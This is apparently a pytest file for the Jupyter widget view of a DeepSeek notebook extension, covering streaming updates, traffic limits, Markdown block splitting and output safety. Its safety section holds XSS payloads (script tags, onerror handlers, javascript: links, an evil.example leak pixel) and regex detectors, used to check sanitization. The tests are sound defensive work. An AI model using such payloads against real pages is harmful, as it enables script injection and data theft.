"""The widget view without a browser: a recording comm stands in for the frontend.

ipywidgets create their comms through ``comm.create_comm``; replacing it with
a comm that records every message shows exactly what a browser would receive:
how many updates, how many bytes, and whether anything unsafe or secret is in
them (reference/jupyter-engineering.md §5.2).
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from types import SimpleNamespace
from typing import Any

import pytest
from comms import RecordingComm, record_comms
from hypothesis import given, settings
from hypothesis import strategies as st
from recordings import REAL_FIXTURES, as_sse

from deepseek_magic import Session, Settings
from deepseek_magic.client import StreamDecoder
from deepseek_magic.core.events import (
    Accumulator,
    ContentDelta,
    Error,
    Event,
    ReasoningDelta,
    Reply,
    ToolCallDelta,
    Usage,
)
from deepseek_magic.emulator import EmulatorConfig, run_in_thread
from deepseek_magic.providers import get_provider
from deepseek_magic.ui import static
from deepseek_magic.ui.blocks import BlockSplitter
from deepseek_magic.ui.render import markdown_to_html, sanitize, split_blocks
from deepseek_magic.ui.widget_view import WidgetReplyView

HEADER = static.ReplyHeader("deepseek", "deepseek-v4-flash", True, "high")
RECORDING = REAL_FIXTURES / "deepseek-reasoning.chunks.txt"
UNSAFE_TAG = re.compile(r"<\s*(script|img|iframe|object|embed|style)\b", re.IGNORECASE)
EVENT_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.IGNORECASE)
JAVASCRIPT_URL = re.compile(r"""<a\b[^>]*href\s*=\s*["']?\s*javascript:""", re.IGNORECASE)


# ------------------------------------------------------------------ fixtures


@dataclass
class Message:
    comm_id: str
    type: str
    data: dict[str, Any]
    size: int

    @property
    def text(self) -> str:
        return json.dumps(self.data, default=str, ensure_ascii=False)


def message(comm_id: str, kind: str, data: Any) -> Message:
    payload = data or {}
    return Message(comm_id, kind, payload, len(json.dumps(payload, default=str).encode()))


@pytest.fixture
def sent(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Message]]:
    """Every comm message of the test, in order."""
    log: list[Message] = []
    record_comms(monkeypatch, lambda comm_id, kind, data: log.append(message(comm_id, kind, data)))
    yield log


@dataclass
class Display:
    """Stands in for IPython's ``display``: remembers what was shown and every update."""

    shown: list[Any] = field(default_factory=list)
    updates: list[dict[str, str]] = field(default_factory=list)

    def __call__(self, obj: Any, **kwargs: Any) -> Display:
        assert kwargs.get("display_id") is True
        self.shown.append(obj)
        return self

    def update(self, data: dict[str, str], **kwargs: Any) -> None:
        self.updates.append(data)


def make_view(interval: float = 0.1) -> tuple[WidgetReplyView, Display]:
    display = Display()
    view = WidgetReplyView(HEADER, interval=interval, display=display)
    view.start()
    return view, display


def feed(view: WidgetReplyView, events: list[Event]) -> Reply:
    acc = Accumulator()
    for event in events:
        acc.add(event)
        view.on_event(event)
    return acc.reply()


def words(text: str, kind: type[ReasoningDelta] | type[ContentDelta]) -> list[Event]:
    return [kind(piece) for piece in re.findall(r"\s*\S+|\s+", text)]


def real_events() -> list[Event]:
    decoder = StreamDecoder(get_provider("deepseek"))
    return decoder.feed(as_sse(RECORDING)) + decoder.flush()


def contents(log: list[Message]) -> list[dict[str, Any]]:
    """The live widget's custom messages: what was new at each update."""
    return [m.data["content"] for m in log if m.type == "comm_msg" and m.data.get("method") == "custom"]


def states(log: list[Message]) -> list[dict[str, Any]]:
    """Its trait updates."""
    return [m.data["state"] for m in log if m.type == "comm_msg" and m.data.get("method") == "update"]


def shown_answer(log: list[Message]) -> str:
    """The answer as the browser module holds it: finished blocks (HTML) and the open tail (text)."""
    blocks, tail = [], ""
    for content in contents(log):
        if content.get("reset"):
            blocks, tail = [], ""
        if "b" in content:
            blocks.append(content["b"])
        if "t" in content:
            tail = content["t"]
        elif "a" in content:
            tail += content["a"]
    return "".join(blocks) + tail


def all_text(log: list[Message]) -> str:
    return "\n".join(message.text for message in log)


# --------------------------------------------------------------- the pane


def test_reasoning_streams_as_text_with_a_live_count_then_a_final_title(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, words("Let me think about the question carefully.", ReasoningDelta))
    reasoning = [c for c in contents(sent) if "r" in c]
    assert "".join(c["r"] for c in reasoning) == "Let me think about the question carefully."
    assert [c["n"] for c in reasoning] == [1, 2, 3, 4, 5, 6, 7], "the browser counts tokens from n"
    assert view.status == "thinking…" and view.root is not None and view.root.title == ""
    feed(view, [ContentDelta("Paris.")])
    assert re.fullmatch(r"Thought for \d+\.\d s · 7 tokens", view.root.title)
    assert view.status == "answering…"
    view.finish(Reply(content="Paris.", reasoning="x", usage=Usage(5, 852, 857, reasoning_tokens=845)))
    titles = [state["title"] for state in states(sent) if "title" in state]
    assert titles[-1].startswith("Thought for") and titles[-1].endswith("· 845 tokens")


def test_one_token_is_one_token() -> None:
    from deepseek_magic.ui.progress import ReplyProgress

    progress = ReplyProgress()
    progress.add(ReasoningDelta("Hm"))
    assert progress.reasoning_title().startswith("Thinking… 1 token · ")
    progress.add(ContentDelta("A"))
    assert progress.reasoning_title().endswith(" · 1 token")
    assert static.reasoning_summary(Reply(usage=Usage(1, 1, 2, reasoning_tokens=1)), None) == "Thought · 1 token"


def test_first_token_goes_out_at_once_then_updates_are_coalesced(sent: list[Message]) -> None:
    view, _ = make_view(interval=10.0)
    feed(view, [ContentDelta(""), ContentDelta("Hello")])  # an empty role chunk does not use up the first update
    assert view.updates == 1 and shown_answer(sent) == "Hello"
    feed(view, [ContentDelta(f" word{n}") for n in range(500)])
    assert view.updates == 1, "500 events inside one interval send nothing more"
    assert "word499" not in shown_answer(sent)
    view.finish(Reply(content="..."))
    assert view.updates == 2, "finish always flushes"
    assert shown_answer(sent).endswith("word499")


def test_updates_follow_the_interval_of_the_clock(sent: list[Message], monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]
    monkeypatch.setattr("deepseek_magic.ui.throttle.time", SimpleNamespace(monotonic=lambda: now[0]))
    view, _ = make_view(interval=5)
    shown_after: list[int] = []
    for n in range(40):  # one event per clock second: an update at 0, 5, 10, ..., 35
        before = view.updates
        feed(view, [ContentDelta(f"w{n} ")])
        if view.updates > before:
            shown_after.append(n)
        now[0] += 1
    assert shown_after == [0, 5, 10, 15, 20, 25, 30, 35]
    assert view.updates == 8
    assert shown_answer(sent).endswith("w35 "), "events inside an interval wait for the next update"


def test_a_token_before_a_pause_is_shown_by_the_trailing_flush(
    sent: list[Message], monkeypatch: pytest.MonkeyPatch
) -> None:
    now = [0.0]
    monkeypatch.setattr("deepseek_magic.ui.throttle.time", SimpleNamespace(monotonic=lambda: now[0]))
    view, _ = make_view(interval=0.1)
    feed(view, [ContentDelta("alpha")])
    now[0] = 0.03
    feed(view, [ContentDelta(" beta")])  # inside the interval: pending; no further event comes
    assert shown_answer(sent) == "alpha"
    view.tick()  # the reader's tick while the network is silent, still inside the interval
    assert shown_answer(sent) == "alpha" and view.updates == 1
    now[0] = 0.1
    view.tick()
    assert shown_answer(sent) == "alpha beta" and view.updates == 2
    view.tick()
    assert view.updates == 2, "nothing pending: a tick sends nothing"


def test_finish_flushes_even_without_pending_text(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, [ContentDelta("Done.")])
    before = view.updates
    view.finish(Reply(content="Done.", finish_reason="stop"))
    assert view.updates == before + 1, "the status goes out in a last update"
    assert "done" in view.describe()


# --------------------------------------------------------------- traffic


def test_finished_blocks_are_sent_once_as_sanitized_html_and_text_only_as_new(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, words("ALPHA first paragraph with **bold** text.\n\nBeta starts", ContentDelta))
    frozen = [c["b"] for c in contents(sent) if "b" in c]
    assert frozen == ["<p>ALPHA first paragraph with <strong>bold</strong> text.</p>\n"]
    at = len(sent)
    feed(view, words(" and goes on " * 60 + "\n\nGamma", ContentDelta))
    later = contents(sent[at:])
    assert len(later) >= 60, "the tail was updated many times"
    assert not any("ALPHA" in json.dumps(c) for c in later), "a finished block is never sent again"
    appended = [c["a"] for c in later if "a" in c]
    assert all(len(piece) <= len(" goes") for piece in appended), "each update carries only the new text"
    assert shown_answer(sent).endswith("Gamma")


def _traffic(paragraphs: int, monkeypatch: pytest.MonkeyPatch) -> tuple[int, int]:
    """(bytes, messages) of streaming ``paragraphs`` paragraphs at a model's pace (fake clock, 80 deltas/s)."""
    now = [0.0]
    monkeypatch.setattr("deepseek_magic.ui.throttle.time", SimpleNamespace(monotonic=lambda: now[0]))
    log: list[Message] = []
    RecordingComm.sink = lambda comm_id, kind, data: log.append(message(comm_id, kind, data))
    view, _ = make_view(interval=0.12)
    text = "".join(f"Paragraph {n} says **something** about widgets and bytes.\n\n" for n in range(paragraphs))
    events = words(text, ContentDelta)
    for event in events:
        view.on_event(event)
        now[0] += 1 / 80
    view.finish(Reply(content=text))
    return sum(m.size for m in log if m.type == "comm_msg"), len(log)


def test_traffic_is_linear_at_a_models_pace(sent: list[Message], monkeypatch: pytest.MonkeyPatch) -> None:
    small, small_messages = _traffic(100, monkeypatch)
    large, large_messages = _traffic(200, monkeypatch)
    assert 1.8 < large / small < 2.2, f"twice the text costs {large / small:.2f}x the bytes (linear: 2x)"
    assert 1.8 < large_messages / small_messages < 2.2


def test_updates_are_bounded_by_the_rate(sent: list[Message], monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]
    monkeypatch.setattr("deepseek_magic.ui.throttle.time", SimpleNamespace(monotonic=lambda: now[0]))
    view, _ = make_view(interval=0.12)
    for n in range(5_000):  # 500 deltas a second for 10 simulated seconds, with ticks between them
        view.on_event(ContentDelta(f"w{n} "))
        now[0] += 0.001
        view.tick()
        now[0] += 0.001
    assert view.updates <= 10 / 0.12 + 1, view.updates
    assert len(contents(sent)) == view.updates


def test_a_long_table_is_not_sent_again_row_by_row(sent: list[Message]) -> None:
    view, display = make_view(interval=0)
    table = "| a | b |\n|---|--:|\n" + "".join(f"| row{n} | {n} |\n" for n in range(400))
    feed(view, words(table + "\nAfter.", ContentDelta))
    sizes = [len(json.dumps(c)) for c in contents(sent)]
    assert max(sizes[:-1]) < 200, "while the table streams, each update carries only its new cells"
    frozen = [c["b"] for c in contents(sent) if "b" in c]
    assert len(frozen) == 1 and frozen[0].count("<tr>") == 401, "the finished table is sent once, rendered"
    view.finish(Reply(content=table + "\nAfter."))
    assert "row399" in display.updates[-1]["text/html"]


# ---------------------------------------------------------- what is left


def test_finish_leaves_a_static_bundle_and_closes_every_widget(sent: list[Message]) -> None:
    view, display = make_view()
    events = real_events()
    reply = feed(view, events)
    assert reply.reasoning and reply.content and reply.usage is not None
    view.finish(reply)
    assert display.shown == [view.root] and len(display.updates) == 1
    data = display.updates[0]
    assert set(data) == {"text/html", "text/markdown", "text/plain"}
    page = data["text/html"]
    assert "<summary style=" in page and f"· {reply.usage.reasoning_tokens:,} tokens</summary>" in page
    # Expected values written out from the recording (its answer, its usage), not computed by the view's code.
    answer = "There are **3** “r”s in **“strawberry”**."
    assert reply.content == answer
    assert "<p>There are <strong>3</strong> “r”s in <strong>“strawberry”</strong>.</p>" in page
    footer = r"97 prompt \+ 106 completion \(88 reasoning\) tokens · \d+\.\d s( · \d+ tok/s)? · stop"
    assert re.search(f"<sub>{footer}</sub>", page)
    title = r"Thought for \d+\.\d s · 88 tokens"
    reasoning = html.escape(reply.reasoning).replace("\n", "<br>\n")
    assert reasoning.startswith("We need answer simple. Need count r in strawberry.") and "&#x27;s count" in reasoning
    assert f">{reasoning}</blockquote></details>" in page, "the reasoning is in the box, apart from the answer"
    # Plain text in the Markdown copy (header, reasoning, footer) is entity-escaped so no renderer interprets it:
    # compared as a reader sees it, i.e. with the entities decoded; the answer stays Markdown. The reasoning is a
    # blockquote inside the folded block, so unfolded it does not run into the answer.
    reasoning_lines = "\n".join(f"> {line}" for line in reply.reasoning.replace("\n", "<br>\n").split("\n"))
    markdown = (
        "<sub>deepseek · deepseek-v4-flash · thinking high</sub>\n\n"
        f"<details><summary>{title}</summary>\n\n{re.escape(reasoning_lines)}\n\n</details>\n\n"
        f"{re.escape(answer)}\n\n<sub>{footer}</sub>"
    )
    assert re.fullmatch(markdown, html.unescape(data["text/markdown"])), data["text/markdown"]
    assert "'" not in data["text/markdown"].split("</details>")[0], "the reasoning's punctuation is escaped"
    plain = f"\\[{title}\\]\n{re.escape(answer)}\n-- {footer}"
    assert re.fullmatch(plain, data["text/plain"]), data["text/plain"]
    opened = {m.comm_id for m in sent if m.type == "comm_open"}
    closed = {m.comm_id for m in sent if m.type == "comm_close"}
    assert len(opened) == 2 and opened == closed, "the widget and its layout: no widget state outlives the reply"
    assert view.root is not None and view.root.comm is None
    state = json.dumps([m.data.get("state", {}) for m in sent])
    assert "strawberry" not in state, "the reply never was widget state (it went in messages)"


def test_the_live_and_the_static_reasoning_share_one_look() -> None:
    from deepseek_magic.ui.live_reply import LiveReply
    from deepseek_magic.ui.look import REASONING_BODY, REASONING_BOX, REASONING_SUMMARY

    css = LiveReply._css
    for declaration in (REASONING_BOX, REASONING_SUMMARY, REASONING_BODY):
        assert declaration in css
    page = static.to_html(Reply(content="Answer.", reasoning="Thinking."))
    assert f'style="{REASONING_BOX}"' in page and f'style="{REASONING_SUMMARY}"' in page
    assert f'<blockquote style="{REASONING_BODY}">Thinking.</blockquote>' in page


def test_badges_reach_the_static_output(sent: list[Message]) -> None:
    view, display = make_view()
    feed(view, [ReasoningDelta("Hmm"), ContentDelta("Partial answer")])
    view.finish(Reply(content="Partial answer", reasoning="Hmm", finish_reason="length"), "interrupted")
    page = display.updates[0]["text/html"]
    assert "interrupted" in page and "max_tokens" in page
    assert "interrupted" in view.describe()


def test_text_frontends_get_a_short_description(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    assert view.root is not None
    bundle = view.root._repr_mimebundle_()
    data = bundle[0] if isinstance(bundle, tuple) else bundle
    assert data["text/plain"] == "[deepseek · deepseek-v4-flash · thinking high] waiting…"
    assert "application/vnd.jupyter.widget-view+json" in data
    feed(view, words("The capital of France is Paris.", ContentDelta))
    assert repr(view.root).endswith("answering… 31 chars: The capital of France is Paris.")


def test_retry_clears_the_reply_and_shows_the_note(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, [ReasoningDelta("first try"), ContentDelta("not json")])
    view.on_retry("the reply was not valid JSON; asking again")
    assert view.status == "waiting…"
    assert view.root is not None and "asking again" in view.root.note
    assert contents(sent)[-1].get("reset") == 1
    assert "not json" not in view.describe()
    feed(view, [ContentDelta('{"ok": true}')])
    assert shown_answer(sent) == '{"ok": true}'


def test_tool_calls_show_in_a_folded_trace(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(
        view,
        [
            ToolCallDelta(0, id="call_1", name="get_weather", arguments='{"city": '),
            ToolCallDelta(0, arguments='"Paris"}'),
        ],
    )
    assert view.root is not None and view.root.tools_title == "Tool calls (1): get_weather"
    assert view.root.tools == '<pre>get_weather({"city": "Paris"})</pre>'


def test_errors_in_the_stream_are_shown_as_text(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, [Error("<b>overloaded</b>")])
    assert any(state.get("error") == "<b>overloaded</b>" for state in states(sent)), "a text trait, not HTML"


# ---------------------------------------------------------------- safety

HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> "
    '<a href="javascript:alert(3)">click</a> [link](javascript:alert(4)) '
    "<iframe src=https://evil.example></iframe> ![pixel](https://evil.example/leak?q=secret)\n\n"
    '<div onmouseover="alert(5)" style="background:url(javascript:alert(6))">x</div>\n'
)


def assert_inert(text: str) -> None:
    assert not UNSAFE_TAG.search(text), UNSAFE_TAG.search(text)
    assert not EVENT_HANDLER.search(text), EVENT_HANDLER.search(text)
    assert not JAVASCRIPT_URL.search(text), JAVASCRIPT_URL.search(text)


def test_model_markup_is_inert_in_answer_and_reasoning(sent: list[Message]) -> None:
    view, display = make_view(interval=0)
    reply = feed(view, words(HOSTILE, ReasoningDelta) + words(HOSTILE + "Safe **bold**.", ContentDelta))
    view.finish(reply)
    frozen = [c["b"] for c in contents(sent) if "b" in c]
    assert any("&lt;script&gt;" in block for block in frozen), "finished blocks show model markup as text"
    for block in frozen:  # the only HTML the kernel sends; text fields are drawn as text by the browser module
        assert_inert(block)
    for state in states(sent):
        assert_inert(state.get("tools", ""))
    assert_inert(display.updates[0]["text/html"])
    assert "<strong>bold</strong>" in display.updates[0]["text/html"]
    assert "&lt;script&gt;" in display.updates[0]["text/html"], "model markup is shown as text"


def test_the_browser_module_never_builds_html_from_model_text() -> None:
    """live_reply.js inserts HTML in one place, the kernel's sanitized blocks, and sanitizes them again there."""
    from importlib.resources import files

    source = files("deepseek_magic.ui").joinpath("live_reply.js").read_text(encoding="utf-8")
    assert source.count("innerHTML") == 1 and "template.innerHTML = html;" in source
    assert "outerHTML" not in source and "insertAdjacentHTML" not in source and "document.write" not in source
    assert "eval(" not in source and "new Function" not in source
    body = source[source.index("export function safeFragment") :]
    assert body.index("clean(template.content)") < body.index("return template.content")


def test_the_sanitizer_itself_strips_what_the_parser_would_let_through() -> None:
    cleaned = sanitize(
        '<p onclick="x()">a<script>bad()</script></p><img src=x onerror=y()>'
        '<a href="javascript:alert(1)">j</a><a href="https://ok.example">ok</a>'
        '<table><tr><td style="text-align:right;background:url(javascript:z)">1</td></tr></table>'
        '<code class="language-py">c</code><span class="jp-Dialog">s</span>'
    )
    assert_inert(cleaned)
    assert "bad()" not in cleaned and "onclick" not in cleaned and "background" not in cleaned
    assert 'href="https://ok.example"' in cleaned and 'rel="noopener noreferrer"' in cleaned
    assert 'style="text-align:right"' in cleaned
    assert 'class="language-py"' in cleaned and "jp-Dialog" not in cleaned


def test_markdown_renders_tables_code_and_keeps_raw_html_as_text() -> None:
    page = markdown_to_html("| a | b |\n|--:|---|\n| 1 | 2 |\n\n```py\nx < 1\n```\n\n<b>raw</b> ~~old~~")
    assert "<table>" in page and '<td style="text-align:right">1</td>' in page
    assert '<code class="language-py">x &lt; 1' in page
    assert "&lt;b&gt;raw&lt;/b&gt;" in page and "<s>old</s>" in page


def test_no_key_reaches_the_frontend(sent: list[Message]) -> None:
    key = "sk-test-0123456789abcdef0123456789abcdef"
    with run_in_thread(EmulatorConfig(api_key=key)) as emu:
        session = Session(settings=Settings.build(api_key=key, base_url=emu.base_url))
        view, display = make_view()
        result = session.ask("What is 2+2?", on_event=view.on_event, on_retry=view.on_retry)
        view.finish(result)
    assert result.content and len(sent) >= 6
    shown = all_text(sent) + repr(view.root) + json.dumps(display.updates)
    assert key not in shown and key[-12:] not in shown and "Bearer" not in shown
    assert not re.search(r"sk-[A-Za-z0-9]{16,}", shown)


# ------------------------------------------------------------ block splits


def test_split_blocks_waits_for_the_next_block_and_never_cuts_a_fence() -> None:
    assert split_blocks("One.\n\n") == ([], "One.\n\n"), "a block is finished once the next one starts"
    assert split_blocks("One.\n\nTwo") == (["One."], "Two")
    fenced = "```py\na = 1\n\nb = 2\n"
    assert split_blocks(fenced) == ([], fenced)
    assert split_blocks(fenced + "```\nAfter") == (["```py\na = 1\n\nb = 2\n```"], "After")
    assert split_blocks("- a\n\n  continued\n\nNext") == (["- a\n\n  continued"], "Next")
    assert split_blocks("# Title\nText\n- a\n- b\n") == (["# Title"], "Text\n- a\n- b\n")
    assert split_blocks("- a\n- b\n  - sub\n- c\n") == (["- a", "- b\n  - sub"], "- c\n")
    assert split_blocks("- a\n- b") == ([], "- a\n- b"), "an unfinished line may still become `---`"
    assert split_blocks("Use ```x``` inline.\n\nNext") == (["Use ```x``` inline."], "Next")


def test_split_blocks_render_like_the_whole_text() -> None:
    text = (
        "# Title\nIntro line one\nline two.\n\n## Part\n\nA paragraph with `code`.\n\n"
        "```python\ndef f():\n\n    return 1\n```\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n> text\n\n    indented code\n\nEnd.\n"
    )
    for cut in range(len(text) + 1):
        blocks, tail = split_blocks(text[:cut])
        assert "".join(blocks) + tail != "" or cut == 0
        pieces = "".join(markdown_to_html(block) for block in blocks)
        assert markdown_to_html(text[:cut]).startswith(pieces) or not blocks, cut
    blocks, tail = split_blocks(text + "\nMore")
    assert "".join(markdown_to_html(b) for b in [*blocks, tail]) == markdown_to_html(text + "\nMore")


@settings(max_examples=200, deadline=None)
@given(cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=30))
def test_the_incremental_splitter_cuts_like_the_whole_text(cuts: list[int]) -> None:
    text = (
        "# Title\nIntro\n\n- a\n- b\n  - sub\n1. one\n\n```py\nx = 1\n\n```\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "> quote\n\n    code\n\nText `x` ~~~\n~~~\nfenced\n~~~\n## End\nlast line"
    )
    splitter = BlockSplitter()
    blocks: list[str] = []
    previous = 0
    for cut in [*sorted(c % (len(text) + 1) for c in cuts), len(text)]:
        blocks += splitter.feed(text[previous:cut])
        previous = cut
        assert (blocks, splitter.tail) == split_blocks(text[:cut]), cut


# ------------------------------------------------------------- real kernel

KERNEL_CELL = """
from deepseek_magic import Session
from deepseek_magic.ui.static import ReplyHeader
from deepseek_magic.ui.widget_view import WidgetReplyView

session = Session()  # DEEPSEEK_BASE_URL and DEEPSEEK_API_KEY point at the test's emulator
view = WidgetReplyView(ReplyHeader("deepseek", "deepseek-v4-flash", True, "high"))
view.start()
view.finish(session.ask("What is 2+2?", on_event=view.on_event))
"""


@pytest.mark.slow
def test_an_executed_notebook_keeps_a_static_reply_and_no_key(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    key = "sk-canary-widget-view-5e1f0c"
    monkeypatch.setenv("DEEPSEEK_API_KEY", key)
    monkeypatch.setenv("DEEPSEEK_MAGIC_NO_AUTOLOAD", "1")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(KERNEL_CELL)])
    with run_in_thread(EmulatorConfig(api_key=key)) as emu:
        monkeypatch.setenv("DEEPSEEK_BASE_URL", emu.base_url)
        nbclient.NotebookClient(nb, timeout=120, kernel_name="python3", store_widget_state=True).execute()
    outputs = nb.cells[0].outputs
    assert [o.output_type for o in outputs] == ["display_data"], outputs
    data = outputs[0].data
    assert "application/vnd.jupyter.widget-view+json" not in data, "the live widget was replaced"
    assert re.search(r"<details [^>]*><summary [^>]*>Thought for", data["text/html"]) and "<p>" in data["text/html"]
    assert data["text/markdown"] and data["text/plain"]
    # nbclient keeps the state of closed widgets in metadata (it ignores comm_close); no output refers to them.
    assert key not in nbformat.writes(nb)
